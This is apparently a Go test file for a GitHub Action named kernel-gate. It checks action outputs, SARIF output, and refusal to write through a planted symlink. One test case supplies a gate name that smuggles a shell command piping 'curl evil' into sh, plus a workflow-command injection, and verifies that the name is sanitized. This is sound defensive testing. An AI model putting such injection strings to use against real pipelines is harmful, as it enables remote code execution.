package action

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"github.com/kernel-gate/kernel-gate/internal/fakegithub"
	"github.com/kernel-gate/kernel-gate/internal/result"
)

// declaredOutputs are action.yml's outputs, each with the gate step's output it maps
// (an output's value is ${{ steps.gate.outputs.NAME }}: result-file maps result-path).
func declaredOutputs(t *testing.T) map[string]string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(repoRoot, "action.yml"))
	if err != nil {
		t.Fatal(err)
	}
	var a struct {
		Outputs map[string]struct{ Value string } `yaml:"outputs"`
	}
	if err := yaml.Unmarshal(raw, &a); err != nil {
		t.Fatal(err)
	}
	step := regexp.MustCompile(`^\$\{\{\s*steps\.gate\.outputs\.([A-Za-z0-9_-]+)\s*\}\}$`)
	out := map[string]string{}
	for name, o := range a.Outputs {
		m := step.FindStringSubmatch(strings.TrimSpace(o.Value))
		if m == nil {
			t.Errorf("output %s is %q, not one of the gate step's outputs", name, o.Value)
			continue
		}
		out[name] = m[1]
	}
	if len(out) == 0 {
		t.Fatal("action.yml declares no outputs")
	}
	return out
}

// readStepOutputs reads a GITHUB_OUTPUT file (NAME<<DELIMITER lines, and NAME=VALUE ones).
func readStepOutputs(t *testing.T, path string) map[string]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	out := map[string]string{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		line := sc.Text()
		if name, delim, ok := strings.Cut(line, "<<"); ok {
			var v []string
			for sc.Scan() && sc.Text() != delim {
				v = append(v, sc.Text())
			}
			out[name] = strings.Join(v, "\n")
		} else if name, v, ok := strings.Cut(line, "="); ok {
			out[name] = v
		}
	}
	return out
}

// Every output action.yml declares is set by `kernel-gate action` (the default command),
// with the run's values: failed-gates was declared and never set. (format: sarif, so that
// sarif-path has a value too.)
func TestEveryDeclaredOutputIsSet(t *testing.T) {
	api := fakegithub.New()
	defer api.Close()
	env, dir := actionEnv(t, api, map[string]string{"replay": filepath.Join(repoRoot, "testdata", "replay", "race"), "format": "sarif"})
	code, log, err := runAction(t, env, api)
	if err != nil || code != 1 {
		t.Fatalf("exit %d, err %v\n%s", code, err, log)
	}
	got := readStepOutputs(t, env["GITHUB_OUTPUT"])
	runs := api.CheckRuns()
	if len(runs) != 1 {
		t.Fatalf("check runs %+v", runs)
	}
	want := map[string]string{
		"verdict": "fail", "result-path": filepath.Join(dir, "result.json"), "check-run-id": strconv.FormatInt(runs[0].ID, 10),
		"regressions": "1", "summary-path": filepath.Join(dir, "result-summary.md"), "failed-gates": "sanitizer",
		"sarif-path": filepath.Join(dir, "result.sarif"),
	}
	for name, step := range declaredOutputs(t) {
		v, ok := got[step]
		if !ok || v == "" {
			t.Errorf("output %s (steps.gate.outputs.%s) is not set: %q", name, step, got)
			continue
		}
		if w, known := want[step]; known && v != w {
			t.Errorf("output %s is %q, want %q", name, v, w)
		}
	}
}

// failed-gates names every failed gate; a name from an untrusted result cannot carry
// anything a later step's script would run.
func TestFailedGates(t *testing.T) {
	gate := func(name string, v result.Verdict) result.Gate { return result.Gate{Name: name, Verdict: v} }
	for _, tc := range []struct {
		gates []result.Gate
		want  string
	}{
		{nil, ""},
		{[]result.Gate{gate("ptxas", result.Pass), gate("sanitizer", result.Fail), gate("speedup", result.Skip), gate("ncu", result.Fail)}, "sanitizer,ncu"},
		{[]result.Gate{gate("x$(curl evil|sh)`id`;\n::warning::", result.Fail)}, "x__curl_evil_sh__id_____warning__"},
		{[]result.Gate{gate(strings.Repeat("a", 100), result.Fail)}, strings.Repeat("a", 64)},
	} {
		if got := failedGates(result.Result{Gates: tc.gates}); got != tc.want {
			t.Errorf("failedGates(%+v) = %q, want %q", tc.gates, got, tc.want)
		}
	}
}

// format: sarif writes the whole result as SARIF beside the result file (every finding,
// whatever filter-mode annotates) and names it in sarif-path; json writes none and leaves
// sarif-path empty; a link planted where the file goes is not written through.
func TestFormatSARIF(t *testing.T) {
	for _, tc := range []struct {
		format, filter string
		link           bool
		want           bool
	}{
		{"sarif", "", false, true},
		{"SARIF", "added", false, true},
		{"json", "", false, false},
		{"", "", false, false},
		{"sarif", "", true, false},
	} {
		env, dir := actionEnv(t, nil, map[string]string{"replay": filepath.Join(repoRoot, "testdata", "replay", "race"),
			"format": tc.format, "filter-mode": tc.filter, "annotations": "none"})
		sarif := filepath.Join(dir, "result.sarif")
		elsewhere := filepath.Join(t.TempDir(), "victim")
		if tc.link {
			os.WriteFile(elsewhere, []byte("keep"), 0o644)
			if err := os.Symlink(elsewhere, sarif); err != nil {
				t.Fatal(err)
			}
		}
		code, log, err := runAction(t, env, nil)
		if err != nil || code != 1 {
			t.Fatalf("format %q: exit %d, err %v\n%s", tc.format, code, err, log)
		}
		got := readStepOutputs(t, env["GITHUB_OUTPUT"])
		raw, rerr := os.ReadFile(sarif)
		if tc.want {
			var log struct {
				Version string `json:"version"`
				Runs    []struct {
					Results []struct {
						RuleID    string `json:"ruleId"`
						Locations []struct {
							PhysicalLocation struct {
								ArtifactLocation struct{ URI string }    `json:"artifactLocation"`
								Region           struct{ StartLine int } `json:"region"`
							} `json:"physicalLocation"`
						} `json:"locations"`
					} `json:"results"`
				} `json:"runs"`
			}
			if rerr != nil || json.Unmarshal(raw, &log) != nil || log.Version != "2.1.0" || len(log.Runs) != 1 {
				t.Fatalf("format %q: the SARIF log: %v\n%.300s", tc.format, rerr, raw)
			}
			race := false
			for _, r := range log.Runs[0].Results {
				for _, l := range r.Locations {
					race = race || l.PhysicalLocation.ArtifactLocation.URI == "kernels/flash_fwd.cu" && l.PhysicalLocation.Region.StartLine == 190
				}
			}
			if !race || got["sarif-path"] != sarif {
				t.Errorf("format %q: the race in the SARIF log %v, sarif-path %q", tc.format, race, got["sarif-path"])
			}
			continue
		}
		if v, ok := got["sarif-path"]; !ok || v != "" {
			t.Errorf("format %q: sarif-path %q (set %v), want set and empty", tc.format, v, ok)
		}
		if tc.link {
			if b, _ := os.ReadFile(elsewhere); string(b) != "keep" || !strings.Contains(log, "the SARIF log") {
				t.Errorf("written through the link: %q\n%s", b, log)
			}
		} else if rerr == nil {
			t.Errorf("format %q wrote %s", tc.format, sarif)
		}
	}
}
